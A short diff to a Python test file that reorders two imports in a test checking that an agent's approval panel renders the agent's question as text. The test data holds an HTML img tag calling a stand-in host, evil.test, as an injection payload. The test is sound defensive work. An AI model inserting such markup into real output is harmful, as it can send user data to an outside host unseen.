@@ -37,8 +37,8 @@ def test_titles_and_logs_of_chat_messages_are_neutralised_too() -> None:
 
 
 def test_the_approval_panel_shows_the_agents_question_as_text(monkeypatch) -> None:
-    from agents import events as ev
     import ui.approval_panel as panel
+    from agents import events as ev
 
     request = ev.DecisionRequested(run_id="r", step=1, request_id="q1", request_kind="question",
                                    payload={"question": '<img src="http://evil.test/?d=1"> Which file?'})
